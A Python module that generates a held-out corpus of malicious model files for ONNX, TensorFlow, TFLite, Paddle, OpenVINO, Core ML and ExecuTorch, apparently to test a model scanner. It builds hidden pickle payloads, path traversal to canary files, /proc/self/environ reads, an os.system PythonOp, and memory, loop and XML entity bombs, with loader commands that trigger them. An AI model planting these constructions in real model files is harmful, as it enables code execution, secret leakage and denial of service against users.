"""Held-out attacks: graphs. Core ML, ExecuTorch, TensorFlow, TensorFlow Lite, Paddle, ONNX, OpenVINO."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import struct
from collections.abc import Iterator

from corpora.unseen_units import BOMB, BROKEN, CALL, CUSTOM, EVIL, HIDDEN, OPERATOR, OUTSIDE, PATH, Attack, pb, written

ODD = BOMB | BROKEN | OPERATOR | HIDDEN
REACH = OPERATOR | PATH
TF = "import tensorflow as tf; print(tf.saved_model.load('m').signatures['serving_default'](tf.constant([1.0])))"
LITE = "import tensorflow as tf, numpy as n; i = tf.lite.Interpreter(F); i.allocate_tensors(); i.set_tensor(i.get_input_details()[0]['index'], n.ones(1, n.float32)); i.invoke()"
COREML = "import coremltools as ct, glob; s = ct.utils.load_spec('m.mlpackage'); print(s)"
PTE = "from executorch.runtime import Runtime; import torch; p = Runtime.get().load_program(F); p.load_method('forward').execute([torch.ones(4)])"
PADDLE = "import paddle; paddle.enable_static(); p = paddle.static.Program.parse_from_string(open(F, 'rb').read()) if False else None\nfrom paddle.base import core; d = core.ProgramDesc(open(F, 'rb').read())\nimport numpy; s = core.Scope(); e = core.Executor(core.CPUPlace()); e.run(d, s, 0, False, True)"
KEPT_APPLE = "kept: Core ML runs on Apple's systems only"
OV = "import openvino, numpy; c = openvino.Core(); m = c.compile_model(c.read_model(F), 'CPU'); print(m([])[0])"
ORT = "import onnxruntime as o; s = o.InferenceSession(F); print(s.run(None, {}))"


def real() -> Iterator[Attack]:
    """Files of real writers (unseen2_write_others.py)."""
    served = "kept: what it reads is folded into the output"
    table = {
        "coreml/custom-layer": ("a layer is a class of the application", None, CUSTOM, KEPT_APPLE),
        "coreml/custom-model": ("the model is a class of the application, with an address", None, CUSTOM, KEPT_APPLE),
        "coreml/pipeline-custom": ("the second model of a pipeline has such a layer", None, CUSTOM, KEPT_APPLE),
        "coreml/linked-model": ("the model lies outside, in a folder to search", None, PATH, KEPT_APPLE),
        "coreml/loop": ("a loop without a limit", None, ODD, KEPT_APPLE),
        "coreml/fill": ("a layer makes 2^40 numbers", None, ODD, KEPT_APPLE),
        "coreml/manifest-dots": ("the package's manifest leads above", COREML + "\n", PATH, "kept: coremltools' reader of packages is Apple's only; the path is what counts"),
        "coreml/manifest-absolute": ("the package's manifest leads to an absolute path", None, PATH, KEPT_APPLE),
        "coreml/manifest-extra": ("the package's manifest lists a file that is not there, a script", None, PATH | BROKEN | HIDDEN, KEPT_APPLE),
        "coreml/blob-dots": ("the weights of an operation lie above the package", None, PATH, KEPT_APPLE),
        "coreml/blob-absolute": ("the weights of an operation lie at an absolute path", None, PATH, KEPT_APPLE),
        "coreml/blob-offset": ("the weights of an operation lie 2^50 bytes into the file", None, BROKEN | PATH, KEPT_APPLE),
        "coreml/hidden-pickle": ("a pickle beside the weights of a package", "import pickle; pickle.load(open('m.mlpackage/Data/com.apple.CoreML/weights/extra.bin', 'rb'))", CALL | HIDDEN),
        "coreml/custom-operation": ("an operation that Core ML does not have", None, CUSTOM, KEPT_APPLE),
        "executorch/custom-operator": ("an operator that ExecuTorch does not have", None, CUSTOM, "kept: needs the publisher's kernel"),
        "executorch/trailing-pickle": ("a pickle behind the program", "import pickle; d = open(F, 'rb').read(); pickle.loads(d[d.rindex(b'\\x80\\x04'):])", CALL | HIDDEN),
        "executorch/buffer-size": ("a buffer of 2^50 bytes", PTE, ODD, "bomb"),
        "executorch/operator-index": ("an instruction's operator is behind the table", PTE, ODD, "kept: this build checks"),
        "executorch/argument-index": ("an instruction's values are behind the table", PTE, ODD, "kept: this build checks"),
        "savedmodel2/immutable-const": ("a constant is a file outside, mapped", TF, REACH, served),
        "savedmodel2/fixed-records": ("a reader of whole files", TF, REACH, served),
        "savedmodel2/text-reader": ("a reader of lines", TF, REACH, served),
        "savedmodel2/record-dataset": ("a dataset of records of a file outside", TF, REACH, served),
        "savedmodel2/csv-dataset": ("a dataset of a table outside", TF, REACH, served),
        "savedmodel2/sql-dataset": ("a dataset of a database outside", TF, REACH, served),
        "savedmodel2/restore": ("a checkpoint at a fixed path is restored", TF, REACH, "kept: needs a checkpoint there"),
        "savedmodel2/hash-table": ("a table is filled from a file outside", TF, REACH, served),
        "savedmodel2/cache-dataset": ("a dataset is cached in a file outside", TF, REACH),
        "savedmodel2/snapshot-dataset": ("a dataset's snapshot is written outside", TF, REACH),
        "savedmodel2/record-writer": ("a dataset is written to a file outside", TF, REACH),
        "savedmodel2/save-slices": ("an old operator saves a checkpoint", TF, REACH),
        "savedmodel2/matching-write": ("a file is written in a loop's body", TF, REACH),
        "savedmodel2/nested-function": ("a file is written two functions down", TF, REACH),
        "savedmodel2/cond-write": ("a file is written in a branch", TF, REACH),
        "savedmodel2/computed-path": ("the path is joined", TF, REACH),
        "savedmodel2/write-at-load": ("a file is written while a table is filled, when the model is loaded", "import tensorflow as tf; tf.saved_model.load('m')", REACH),
        "savedmodel2/py-function": ("Python's function of the process is called by a token", TF, REACH | CALL, "kept: the token leads to a function of the process that wrote it"),
        "savedmodel2/numpy-function": ("the same with NumPy", TF, REACH | CALL, "kept: the token leads to a function of the process that wrote it"),
        "savedmodel2/remote-call": ("a function runs on another machine", TF, REACH | CUSTOM, "kept: needs a cluster"),
        "savedmodel2/asset-dots": ("an asset's name leads above the folder", "import tensorflow as tf; m = tf.saved_model.load('m'); print('CANARY-7f3a' * (float(m.signatures['serving_default'](tf.constant([0.0]))['output_0'][0]) == 1))", PATH),
        "savedmodel2/asset-absolute": ("an asset's name is an absolute path", "import tensorflow as tf; m = tf.saved_model.load('m'); print('CANARY-7f3a' * (float(m.signatures['serving_default'](tf.constant([0.0]))['output_0'][0]) == 1))", PATH),
        "savedmodel2/delete-checkpoint": ("a number is repeated 2^40 times", TF, ODD, "bomb"),
        "savedmodel2/broadcast": ("a number is broadcast to 2^37", TF, ODD, "bomb"),
        "savedmodel2/range": ("a range of 2 * 10^10 is shuffled", TF, ODD, "bomb"),
        "savedmodel2/one-hot": ("2^17 classes, one hot each", TF, ODD, "bomb"),
        "savedmodel2/string-double": ("a text doubles 60 times", TF, ODD, "bomb"),
        "savedmodel2/nested-loops": ("10^9 turns of 10^9 turns", TF, ODD, "bomb"),
        "savedmodel2/self-call": ("a function calls itself", TF, ODD, "bomb"),
        "savedmodel2/text-form": ("a graph that writes a file, in the text form", TF, REACH),
        "savedmodel2/frozen-write": ("a frozen graph writes a file", "import tensorflow as tf; g = tf.compat.v1.GraphDef(); g.ParseFromString(open(F, 'rb').read()); tf.import_graph_def(g, name='')\nwith tf.Graph().as_default() as G:\n    tf.import_graph_def(g, name='')\n    tf.compat.v1.Session(graph=G).run('w')", REACH),
        "savedmodel2/graph-text": ("a graph in the text form writes a file", "import tensorflow as tf; from google.protobuf import text_format; g = text_format.Parse(open(F).read(), tf.compat.v1.GraphDef())\nwith tf.Graph().as_default() as G:\n    tf.import_graph_def(g, name='')\n    tf.compat.v1.Session(graph=G).run('w')", REACH),
        "savedmodel2/meta-write": ("a meta graph writes a file", "import tensorflow as tf\nwith tf.Graph().as_default() as G:\n    tf.compat.v1.train.import_meta_graph(F)\n    tf.compat.v1.Session(graph=G).run('w')", REACH),
        "tflite2/loop": ("a loop that never ends", LITE, ODD, "bomb"),
        "tflite2/fill": ("2^33 numbers are made", LITE, ODD, "bomb"),
        "tflite2/flex-read": ("a TensorFlow operator inside reads a file", LITE, REACH | CUSTOM, served),
        "tflite2/custom": ("an operator that is the publisher's", LITE, CUSTOM, "kept: needs the publisher's library"),
        "tflite2/huge-tensor": ("a tensor of 2^34 numbers", LITE, ODD, "bomb"),
        "tflite2/far-tensor": ("an operator's input is behind the table", LITE, ODD, "kept: this build checks"),
        "tflite2/far-buffer": ("a tensor's buffer is behind the table", LITE, ODD, "kept: this build checks"),
        "tflite2/negative-shape": ("a tensor of negative size", LITE, ODD, "kept: this build checks"),
        "tflite2/trailing-pickle": ("a pickle behind the model", "import pickle; d = open(F, 'rb').read(); pickle.loads(d[d.rindex(b'\\x80\\x04'):])", CALL | HIDDEN),
        "tflite2/associated-slip": ("an associated file's name leads above", "import zipfile, os; z = zipfile.ZipFile(F)\nfor n in z.namelist(): open(n, 'wb').write(z.read(n))", PATH | HIDDEN),
        "paddle/load": ("the program loads a file outside", PADDLE, REACH, served),
        "paddle/load-combine": ("the program loads several tensors from a file outside", PADDLE, REACH, served),
        "paddle/save": ("the program saves to a path", PADDLE, REACH),
        "paddle/save-combine": ("the program saves several tensors to a path", PADDLE, REACH),
        "paddle/py-func": ("the program calls a function of Python by its number", PADDLE, REACH | CALL | CUSTOM, "kept: needs a function that the process registered"),
        "paddle/fill": ("the program makes 2^40 numbers", PADDLE, ODD, "bomb"),
        "paddle/loop": ("the program never ends", PADDLE, ODD, "bomb"),
        "paddle/save-old-name": ("the same under the old name __model__", PADDLE, REACH),
        "paddle/load-old-name": ("a load under the old name __model__", PADDLE, REACH, served),
        "paddle/pdparams": ("parameters are a pickle", "import paddle; paddle.load(F)", CALL),
        "paddle/pdopt": ("an optimizer's state is a pickle", "import paddle; paddle.load(F)", CALL),
        "paddle/parameters-info": ("what describes the parameters is a pickle", "import pickle; pickle.load(open(F, 'rb'))", CALL),
        "paddle/parameters-size": ("a parameter of 2^48 numbers", "import paddle; paddle.load(F)", ODD | PATH, "kept: read with its program only"),
    }  # fmt: skip
    for what, (does, load, rules, *proof) in table.items():
        family = what.partition("/")[0]
        env = {"savedmodel2": "tf", "tflite2": "tf", "paddle": "pad"}.get(family, "main")
        try:
            files = written(what)
        except FileNotFoundError:
            continue
        yield Attack(what, family, files, family, load or "", does, rules, env, *(proof or ["mark"]))


def onnx() -> Iterator[Attack]:
    value = lambda n, kind=1: pb((1, n), (2, pb((1, pb((1, kind), (2, pb((1, pb((2, "n"))))))))))
    node = lambda op, ins, outs, *attributes, domain="": pb(
        *((1, i) for i in ins),
        *((2, o) for o in outs),
        (4, op),
        *((5, a) for a in attributes),
        *([(7, domain)] if domain else []),
    )
    graph = lambda *nodes, weights=(), out=("y", 1), ins=(): pb(
        *((1, n) for n in nodes),
        (2, "g"),
        *((5, w) for w in weights),
        *((11, value(*i)) for i in ins),
        (12, value(*out)),
    )
    model = lambda g, domains=(), more=(): pb(
        (1, 8), (7, g), *((8, pb((1, d), (2, 17 if not d else 1))) for d in ["", *domains]), *more
    )
    ints = lambda name, *v: pb((1, len(v)), (2, 7), (8, name), (9, struct.pack(f"<{len(v)}q", *v)))
    scalar = lambda name, v: pb((2, 7), (8, name), (9, struct.pack("<q", v)))
    flag = lambda name, v: pb((2, 9), (8, name), (9, bytes([v])))
    flt = lambda name, *v: pb((1, len(v)), (2, 1), (8, name), (9, struct.pack(f"<{len(v)}f", *v)))
    external = lambda name, location, size=72, kind=2, **more: pb(
        (1, size),
        (2, kind),
        (8, name),
        *((13, pb((1, k), (2, v))) for k, v in {"location": location, **more}.items()),
        (14, 1),
    )
    sub = lambda name, g: pb((1, name), (6, g), (20, 5))
    tensor = lambda name, t: pb((1, name), (5, t), (20, 4))
    text = lambda name, s: pb((1, name), (4, s), (20, 3))
    number = lambda name, v: pb((1, name), (3, v), (20, 2))
    far = "../../../../outside/canary.txt"
    own = "import onnx; from onnx import external_data_helper as e; m = onnx.load(F, load_external_data=False)\nfor t in e._get_all_tensors(m):\n    d = {x.key: x.value for x in t.external_data}\n    if d: print(open(d['location'], 'rb').read())"
    body = graph(
        node("Identity", ["c"], ["c2"]),
        node("Identity", ["v"], ["v2"]),
        ins=(("i", 7), ("c", 9), ("v", 1)),
        out=("c2", 9),
    )
    body += pb((12, value("v2")))
    loop = graph(
        node("Loop", ["m", "t", "x"], ["y"], sub("body", body)),
        weights=[scalar("m", 1 << 62), flag("t", 1), flt("x", 1.0)],
    )
    then = graph(node("Constant", [], ["z"], tensor("value", external("", far))), out=("z", 2))
    branch = graph(
        node("If", ["t"], ["y"], sub("then_branch", then), sub("else_branch", then)),
        weights=[flag("t", 1)],
        out=("y", 2),
    )
    recursive = pb(
        (1, "Again"),
        (4, "a"),
        (5, "b"),
        (7, node("Again", ["a"], ["b"], domain="own")),
        (9, pb((1, ""), (2, 17))),
        (9, pb((1, "own"), (2, 1))),
        (10, "own"),
    )
    shadow = pb(
        (1, "Relu"),
        (4, "a"),
        (5, "b"),
        (7, node("ConstantOfShape", ["s"], ["b"])),
        (7, node("Constant", [], ["s"], tensor("value", ints("", 1 << 40)))),
        (9, pb((1, ""), (2, 17))),
        (10, "own"),
    )
    inner = pb(
        (1, "Get"),
        (5, "b"),
        (7, node("Constant", [], ["b"], tensor("value", external("", far)))),
        (9, pb((1, ""), (2, 17))),
        (10, "own"),
    )
    bytes_out = ("y", 2)
    context = node(
        "EPContext",
        ["x"],
        ["y"],
        number("embed_mode", 0),
        text("ep_cache_context", "../../../../outside/canary.bin"),
        text("source", "QNN"),
        domain="com.microsoft",
    )
    fill = lambda op, *rest, **kw: model(graph(node(op, *rest), **kw))
    table = {
        "loop": ("Loop of 2^62 turns", model(loop), ODD, ORT, "bomb"),
        "expand": ("Expand of one number to 2^38", fill("Expand", ["x", "s"], ["y"], weights=[flt("x", 1.0), ints("s", 1 << 19, 1 << 19)]), ODD, ORT, "bomb"),
        "tile": ("Tile of one number 2^38 times", fill("Tile", ["x", "s"], ["y"], weights=[flt("x", 1.0), ints("s", 1 << 38)]), ODD, ORT, "bomb"),
        "pad": ("Pad by 2^36 zeros", fill("Pad", ["x", "s"], ["y"], weights=[flt("x", 1.0), ints("s", 0, 1 << 36)]), ODD, ORT, "bomb"),
        "range": ("Range of 2^40 numbers", fill("Range", ["a", "b", "c"], ["y"], weights=[scalar("a", 0), scalar("b", 1 << 40), scalar("c", 1)], out=("y", 7)), ODD, ORT, "bomb"),
        "one-hot": ("OneHot of 2^36 classes", fill("OneHot", ["i", "d", "v"], ["y"], weights=[ints("i", 1), scalar("d", 1 << 36), flt("v", 0.0, 1.0)]), ODD, ORT, "bomb"),
        "random": ("RandomNormal of 2^38 numbers", fill("RandomNormal", [], ["y"], pb((1, "shape"), (8, 1 << 19), (8, 1 << 19), (20, 7))), ODD, ORT, "bomb"),
        "eye": ("a diagonal of 2^18, made from a shape that is computed", model(graph(node("Mul", ["s", "s"], ["q"]), node("ConstantOfShape", ["q"], ["y"]), weights=[ints("s", 1 << 10, 1 << 9)])), ODD, ORT, "bomb"),
        "resize": ("Resize by 10^5 in both directions", model(graph(node("Resize", ["x", "", "s"], ["y"]), weights=[pb((1, 1), (1, 1), (1, 2), (1, 2), (2, 1), (8, "x"), (9, b"\0" * 16)), flt("s", 1.0, 1.0, 1e5, 1e5)])), ODD, ORT, "bomb"),
        "branch-external": ("external data in a branch of If", model(branch), PATH, own),
        "function-external": ("external data in a function of the model", model(graph(node("Get", [], ["y"], domain="own"), out=bytes_out), ["own"], [(25, inner)]), PATH, own.replace("e._get_all_tensors(m)", "[a.t for f in m.functions for n in f.node for a in n.attribute]")),
        "training-external": ("external data in the training information", model(graph(node("Identity", ["w"], ["y"]), weights=[flt("w", 1.0)]), more=[(20, pb((1, graph(weights=[external("w", far)]))))]), PATH, own.replace("e._get_all_tensors(m)", "[t for i in m.training_info for t in i.initialization.initializer]")),
        "sparse-external": ("external data in the values of a sparse tensor", model(pb((1, node("Identity", ["w"], ["y"])), (2, "g"), (15, pb((1, external("w", far)), (2, ints("i", 0)), (3, 72))), (12, value("y", 2)))), PATH, own.replace("e._get_all_tensors(m)", "[s.values for s in m.graph.sparse_initializer]")),
        "external-dotted": ("external data whose path looks tidy at first", model(graph(node("Identity", ["w"], ["y"]), weights=[external("w", "weights/.//../../../../../outside/canary.txt")], out=bytes_out)), PATH, "import os; os.mkdir('weights'); " + own),
        "external-address": ("external data at an address", model(graph(node("Identity", ["w"], ["y"]), weights=[external("w", "http://127.0.0.1:8765/w")], out=bytes_out)), PATH, own.replace("open(d['location'], 'rb')", "__import__('urllib.request').request.urlopen(d['location'])")),
        "external-device": ("external data is /dev/zero", model(graph(node("Identity", ["w"], ["y"]), weights=[external("w", "/dev/zero")], out=bytes_out)), PATH | BOMB, own, "bomb"),
        "external-self": ("external data is the program's own memory", model(graph(node("Identity", ["w"], ["y"]), weights=[external("w", "/proc/self/environ")], out=bytes_out)), PATH, "import os; os.environ['X'] = 'CANARY-7f3a'; " + own, "kept: the process's environment is in the output"),
        "context-node": ("a compiled context lies in a file outside", model(graph(context, ins=(("x", 1),)), ["com.microsoft"]), PATH | CUSTOM, None, "kept: needs the provider that compiled it"),
        "aten": ("ONNX Runtime's operator that calls torch's by name", model(graph(node("ATen", ["x"], ["y"], text("operator", "from_file"), domain="org.pytorch.aten"), weights=[flt("x", 1.0)]), ["org.pytorch.aten"]), CUSTOM, None, "kept: needs onnxruntime-training"),
        "python-training": ("ONNX Runtime's PythonOp calls a class by name", model(graph(node("PythonOp", ["x"], ["y", "c"], text("func_name", "os.system"), domain="com.microsoft"), weights=[flt("x", 1.0)]), ["com.microsoft"]), CUSTOM | CALL, None, "kept: needs onnxruntime-training"),
        "self-function": ("a function calls itself", model(graph(node("Again", ["x"], ["y"], domain="own"), weights=[flt("x", 1.0)]), ["own"], [(25, recursive)]), ODD | CUSTOM, ORT, "bomb"),
        "shadow": ("a function of the model's own domain is called Relu and fills memory", model(graph(node("Relu", ["x"], ["y"], domain="own"), weights=[flt("x", 1.0)]), ["own"], [(25, shadow)]), ODD | CUSTOM, ORT, "bomb"),
        "metadata-pickle": ("a property of the model is a pickle in base64 that the loader unpacks", model(graph(node("Identity", ["x"], ["y"]), weights=[flt("x", 1.0)]), more=[(14, pb((1, "preprocessor"), (2, __import__("base64").b64encode(EVIL))))]), CALL | HIDDEN, "import onnx, base64, pickle; m = onnx.load(F); pickle.loads(base64.b64decode(m.metadata_props[0].value))"),
        "raw-pickle": ("an unused weight is a pickle", model(graph(node("Identity", ["x"], ["y"]), weights=[flt("x", 1.0), pb((1, len(EVIL)), (2, 2), (8, "preprocessor"), (9, EVIL))])), CALL | HIDDEN, "import onnx, pickle; m = onnx.load(F); pickle.loads(m.graph.initializer[1].raw_data)"),
        "string-pickle": ("an unused weight of text is a pickle", model(graph(node("Identity", ["x"], ["y"]), weights=[flt("x", 1.0), pb((1, 1), (2, 8), (6, EVIL), (8, "preprocessor"))])), CALL | HIDDEN, "import onnx, pickle; m = onnx.load(F); pickle.loads(m.graph.initializer[1].string_data[0])"),
        "unknown-field": ("an unknown field of the message is a pickle", model(graph(node("Identity", ["x"], ["y"]), weights=[flt("x", 1.0)]), more=[(4000, EVIL)]), CALL | HIDDEN, "import pickle; d = open(F, 'rb').read(); pickle.loads(d[d.index(b'\\x80\\x04'):])"),
        "dims-overflow": ("the sizes of a weight multiply to 2^64", model(graph(node("Identity", ["w"], ["y"]), weights=[pb((1, 1 << 32), (1, 1 << 32), (2, 1), (8, "w"), (9, b""))])), ODD, ORT, "kept: this build checks"),
        "text-format": ("the model in ONNX' text form reads a file outside", b'<ir_version: 8, opset_import: ["" : 17]>\ng () => (uint8[72] y) <uint8[72] w = ["location": "../../../../outside/canary.txt"]> { y = Identity(w) }\n', PATH, own.replace("onnx.load(F, load_external_data=False)", "onnx.load(F, format='onnxtxt', load_external_data=False)")),
    }  # fmt: skip
    for what, (does, data, rules, load, *proof) in table.items():
        yield Attack(
            f"onnx2/{what}",
            "onnx2",
            {"m.onnxtxt" if what == "text-format" else "m.onnx": data},
            "onnxruntime 1.32, onnx 1.23",
            load or "",
            does,
            rules,
            "main",
            *(proof or ["mark"]),
        )
    links = {"w.bin": f"{OUTSIDE}/canary.txt"}
    data = model(graph(node("Identity", ["w"], ["y"]), weights=[external("w", "w.bin")], out=bytes_out))
    yield Attack(
        "onnx2/external-link",
        "onnx2",
        {"m.onnx": data},
        "readers that join paths",
        own,
        "external data is a link that leads outside",
        PATH,
        "main",
        "mark",
        links,
    )


def openvino() -> Iterator[Attack]:
    port = '<port id="0" precision="U8"><dim>72</dim></port>'
    const = lambda more="", size=72, offset=0: (
        f'<layer id="0" name="w" type="Const" version="opset1"><data element_type="u8" shape="{size}" offset="{offset}" size="{size}"{more}/><output>{port}</output></layer>'
    )
    result = (
        '<layer id="9" name="r" type="Result" version="opset1"><input><port id="0"><dim>72</dim></port></input></layer>'
    )
    net = lambda layers, edges='<edge from-layer="0" from-port="0" to-layer="9" to-port="0"/>': (
        f'<?xml version="1.0"?><net name="m" version="11"><layers>{layers}</layers><edges>{edges}</edges></net>'.encode()
    )
    shape = '<layer id="1" name="s" type="Const" version="opset1"><data element_type="i64" shape="2" offset="72" size="16"/><output><port id="0" precision="I64"><dim>2</dim></port></output></layer>'
    wide = '<layer id="2" name="b" type="Broadcast" version="opset3"><data mode="bidirectional"/><input><port id="0"><dim>72</dim></port><port id="1"><dim>2</dim></port></input><output><port id="2" precision="U8"><dim>1073741824</dim><dim>72</dim></port></output></layer>'
    edges = '<edge from-layer="0" from-port="0" to-layer="2" to-port="0"/><edge from-layer="1" from-port="0" to-layer="2" to-port="1"/><edge from-layer="2" from-port="2" to-layer="9" to-port="0"/>'
    own = '<layer id="1" name="s" type="Run" version="evil"><input><port id="0"><dim>72</dim></port></input><output><port id="1" precision="U8"><dim>72</dim></port></output></layer>'
    own_edges = '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/><edge from-layer="1" from-port="1" to-layer="9" to-port="0"/>'
    weights = b"\1" * 72 + struct.pack("<2q", 1 << 30, 72)
    table = {
        "weights-link": ("the weights are a link that leads outside", {"m.xml": net(const() + result)}, PATH, OV, "kept: the weights are in the output", {"m.bin": f"{OUTSIDE}/canary.txt"}),
        "weights-behind": ("the weights lie behind the end of their file", {"m.xml": net(const(offset=1 << 40) + result), "m.bin": weights}, BROKEN | PATH, OV, "kept: this build checks"),
        "broadcast": ("a few numbers are broadcast to 2^36", {"m.xml": net(const() + shape + wide + result, edges), "m.bin": weights}, ODD, OV, "bomb"),
        "custom": ("a layer of an extension", {"m.xml": net(const() + own + result, own_edges), "m.bin": weights[:72]}, CUSTOM, OV, "kept: needs the publisher's extension"),
        "weights-pickle": ("bytes behind the weights are a pickle", {"m.xml": net(const() + result), "m.bin": weights[:72] + EVIL}, CALL | HIDDEN | {"model-unexplained-bytes"}, "import pickle; f = open('m.bin', 'rb'); f.seek(72); pickle.load(f)"),
        "deep": ("a million elements in each other", {"m.xml": b"<net>" + b"<a>" * 1_000_000, "m.bin": b""}, ODD, OV, "kept: pugixml reads it without recursion; others do not"),
        "runtime-information": ("runtime information with an entity of its own", {"m.xml": b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x "' + b"A" * 5000 + b'">]><net>' + b"<rt_info>" + b"&x;" * 100_000 + b"</rt_info></net>", "m.bin": b""}, ODD | PATH, "from lxml import etree; etree.parse(F, etree.XMLParser(huge_tree=True, resolve_entities=True))", "kept: 500 MB of text, by quadratic growth"),
    }  # fmt: skip
    for what, (does, files, rules, load, *rest) in table.items():
        proof = rest[0] if rest else "mark"
        yield Attack(
            f"openvino2/{what}",
            "openvino2",
            files,
            "OpenVINO 2026.4",
            load,
            does,
            rules,
            "main",
            proof,
            rest[1] if len(rest) > 1 else {},
        )


def attacks() -> Iterator[Attack]:
    yield from real()
    yield from onnx()
    yield from openvino()
